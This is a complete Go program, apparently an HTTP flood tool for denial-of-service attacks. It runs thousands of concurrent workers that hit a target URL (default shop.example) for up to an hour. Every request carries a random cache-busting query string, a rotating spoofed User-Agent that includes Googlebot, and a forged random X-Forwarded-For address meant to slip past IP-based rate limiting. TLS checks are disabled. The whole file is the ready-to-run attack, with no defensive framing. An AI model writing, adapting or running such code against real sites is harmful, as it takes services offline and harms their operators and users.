package main

import (
	"crypto/tls"
	"flag"
	"fmt"
	"io"
	"math/rand"
	"net/http"
	"sync/atomic"
	"time"
)

var agents = []string{"Mozilla/5.0 (X11; Linux x86_64)", "Googlebot/2.1", "curl/8.0", "Mozilla/5.0 (iPhone)"}

func main() {
	u := flag.String("u", "https://shop.example/", "")
	n := flag.Int("c", 5000, "")
	d := flag.Duration("t", time.Hour, "")
	flag.Parse()
	var sent int64
	stop := time.After(*d)
	for i := 0; i < *n; i++ {
		go func() {
			c := &http.Client{Timeout: 4 * time.Second, Transport: &http.Transport{
				TLSClientConfig: &tls.Config{InsecureSkipVerify: true}, DisableKeepAlives: true}}
			for {
				req, _ := http.NewRequest("GET", fmt.Sprintf("%s?q=%d", *u, rand.Int63()), nil)
				req.Header.Set("User-Agent", agents[rand.Intn(len(agents))])
				req.Header.Set("X-Forwarded-For", fmt.Sprintf("%d.%d.%d.%d", rand.Intn(255), rand.Intn(255), rand.Intn(255), rand.Intn(255)))
				if r, err := c.Do(req); err == nil {
					io.Copy(io.Discard, r.Body)
					r.Body.Close()
				}
				atomic.AddInt64(&sent, 1)
			}
		}()
	}
	<-stop
	fmt.Println(atomic.LoadInt64(&sent))
}
